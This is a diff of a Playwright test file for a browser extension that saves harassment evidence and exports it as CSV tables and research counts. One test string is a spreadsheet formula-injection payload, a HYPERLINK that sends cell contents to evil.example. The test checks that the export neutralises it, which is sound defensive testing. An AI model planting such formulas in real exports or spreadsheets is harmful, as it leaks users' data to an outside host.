@@ -5,26 +5,27 @@ import { basename } from 'node:path';
 import AxeBuilder from '@axe-core/playwright';
 import { parse } from 'csv-parse/sync';
 import type { Page } from '@playwright/test';
-import type { CustodyEntry } from '../../utils/evidence/types';
+import type { CustodyEntry, EvidenceRecord } from '../../utils/evidence/types';
 import { unguarded } from '../../utils/export/csv';
 import type { Extension } from '../support/chromium';
 import { handedOver } from '../support/hand-over';
 import { documentPost, postWith, sites } from '../support/journey';
 import { expect, test } from './fixtures';
 
-const WORDS = ['nobody wants you here', 'Aku tahu kau duduk blok mana', 'நீ எங்கே வேலை செய்கிறாய்'];
+const TAMIL = 'நீ எங்கே வேலை செய்கிறாய்';
+const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"வா")\n,=1+1; "@x"\t+2 \u200e-3 😀 سلام';
 
-/** Each of the posts put on record so many times. */
-async function putOnRecord(ext: Extension, times: number): Promise<void> {
-  for (const words of WORDS) {
-    const page = await ext.openPage(sites.x.address);
-    for (let time = 0; time < times; time += 1) {
-      await page.reload();
-      await documentPost(ext, page, postWith(page, sites.x.unit, words).button);
-    }
-    await page.close();
-  }
+/** Text files of the person's own, each a record. */
+async function addTexts(ext: Extension, ...texts: string[]): Promise<void> {
+  const page = await ext.openOwn('add-file.html');
+  await page.getByLabel('Choose files').setInputFiles(texts.map((text, index) => ({ name: `chat-${index}.txt`, mimeType: 'text/plain', buffer: Buffer.from(text) })));
+  await page.getByLabel('Where it happened').selectOption('WhatsApp');
+  await page.getByRole('button', { name: 'Save on this device' }).click();
+  await expect(page.getByRole('heading', { name: 'Saved on this device' })).toBeVisible();
+  await page.close();
 }
+
+const six = (ext: Extension) => addTexts(ext, ...['one', 'two', 'three', 'four', 'five', 'six'].map((number) => `Ravi: message ${number}`));
 
 const numbers = (page: Page) => page.getByRole('radio', { name: 'Numbers only, for research' });
 const agree = (page: Page) => page.getByRole('checkbox', { name: 'I have looked at these numbers.' });
@@ -35,30 +36,34 @@ async function lastExport(ext: Extension): Promise<CustodyEntry> {
 }
 
 test('a table holds every record as it is, in a form that another parser reads', async ({ ext }) => {
-  await putOnRecord(ext, 1);
+  const page = await ext.openPage(sites.x.address);
+  await documentPost(ext, page, postWith(page, sites.x.unit, TAMIL).button);
+  await addTexts(ext, HOSTILE);
   const path = await handedOver(ext, 'A table for a spreadsheet');
   expect(basename(path)).toMatch(/^evidence-\d{4}-\d\d-\d\d\.csv$/);
   const bytes = readFileSync(path);
   expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
-  const rows: Record<string, string>[] = parse(bytes, { bom: true, columns: true });
-  const records = (await ext.records()).toReversed();
-  expect(rows.map(({ record_id: id }) => id)).toEqual(records.map(({ capture }) => capture.id));
-  for (const [index, { capture, manifestHash }] of records.entries()) {
-    const row = rows[index]!;
-    expect(unguarded(row.text!)).toBe(capture.post.text);
-    expect(unguarded(row.post_id!)).toBe(capture.post.id);
-    expect(row).toMatchObject({ manifest_sha256: manifestHash, platform: 'x', host: 'x.com', author_handle: capture.post.author.handle, permalink: capture.post.permalink });
-    expect(Date.parse(row.captured_local!)).toBe(Math.floor(Date.parse(capture.capturedAt.utc) / 1000) * 1000);
-  }
+  const [post, file, ...others]: Record<string, string>[] = parse(bytes, { bom: true, columns: true });
+  expect(others).toEqual([]);
+  const [{ capture, manifestHash }] = (await ext.records()).toReversed() as [EvidenceRecord];
+  expect(unguarded(post!.text!)).toBe(capture.post.text);
+  expect(post!.text).toContain(TAMIL);
+  expect(unguarded(post!.post_id!)).toBe(capture.post.id);
+  expect(post).toMatchObject({
+    record_id: capture.id, manifest_sha256: manifestHash, platform: 'x', host: 'x.com', author_handle: capture.post.author.handle, permalink: capture.post.permalink,
+  });
+  expect(Date.parse(post!.captured_local!)).toBe(Math.floor(Date.parse(capture.capturedAt.utc) / 1000) * 1000);
+  expect(file!.text).toMatch(/^'=HYPERLINK\(/);
+  expect(unguarded(file!.text!)).toBe((await ext.records())[0]!.capture.post.text);
   expect(await lastExport(ext)).toMatchObject({ detail: basename(path), subjectHash: createHash('sha256').update(bytes).digest('hex') });
 });
 
 test('numbers are shown to the last letter before they are written, and hold nothing else', async ({ ext }) => {
-  await putOnRecord(ext, 2);
+  await six(ext);
   await ext.changeSettings({ country: 'SG' });
   let shown = '';
   const path = await handedOver(ext, 'Numbers only, for research', async (page) => {
-    await expect(page.getByRole('table', { name: 'X, harm not named: 6 records' })).toBeVisible();
+    await expect(page.getByRole('table', { name: 'WhatsApp, harm not named: 6 records' })).toBeVisible();
     await expect(page.getByRole('row', { name: /^Reporting not reported 6$/ })).toBeVisible();
     await expect(make(page)).toBeDisabled();
     await agree(page).check();
@@ -73,13 +78,13 @@ test('numbers are shown to the last letter before they are written, and hold not
   });
   const file = readFileSync(path);
   expect(file.toString('utf8')).toBe(shown);
-  expect(file.toString('utf8')).toMatch(/^\uFEFFcountry,platform,category,measure,value,records\r\nSG,x,not-named,all,,6\r\nSG,x,not-named,month,\d{4}-\d\d,6\r\nSG,x,not-named,status,not-reported,6\r\n$/);
+  expect(file.toString('utf8')).toMatch(/^\uFEFFcountry,platform,category,measure,value,records\r\nSG,whatsapp,not-named,all,,6\r\nSG,whatsapp,not-named,month,\d{4}-\d\d,6\r\nSG,whatsapp,not-named,status,not-reported,6\r\n$/);
   expect(basename(path)).toMatch(/^numbers-\d{4}-\d\d\.csv$/);
   expect(await lastExport(ext)).toMatchObject({ detail: basename(path), subjectHash: createHash('sha256').update(file).digest('hex') });
 });
 
 test('numbers of a few records are not made, and the page says why', async ({ ext }) => {
-  await putOnRecord(ext, 1);
+  await addTexts(ext, 'one', 'two', 'three', 'four');
   const page = await ext.openOwn('hand-over.html');
   await numbers(page).check();
   await expect(page.getByText('There are too few records')).toBeVisible();
@@ -87,7 +92,7 @@ test('numbers of a few records are not made, and the page says why', async ({ ex
 });
 
 test('numbers are not written once the records are others than those shown', async ({ ext }) => {
-  await putOnRecord(ext, 2);
+  await six(ext);
   const page = await ext.openOwn('hand-over.html');
   await numbers(page).check();
   await agree(page).check();
@@ -104,7 +109,7 @@ test('numbers are not written once the records are others than those shown', asy
 });
 
 test('the keyboard alone finds a way, agrees, makes the file, and leaves', async ({ ext }) => {
-  await putOnRecord(ext, 2);
+  await six(ext);
   const page = await ext.openOwn('hand-over.html');
   await page.getByRole('radio').first().waitFor();
   const tabTo = async (found: () => Promise<boolean>) => {
@@ -133,7 +138,7 @@ test('the keyboard alone finds a way, agrees, makes the file, and leaves', async
 // Contrast hangs on the colours and overflow on the width, so two pairs see what four would.
 test('every way is free of faults that axe finds, in three scripts, light and narrow, dark and wide', async ({ ext }) => {
   test.setTimeout(240_000);
-  await putOnRecord(ext, 2);
+  await six(ext);
   for (const language of ['en', 'ta', 'ar']) {
     await ext.changeSettings({ language });
     const page = await ext.openOwn('hand-over.html');
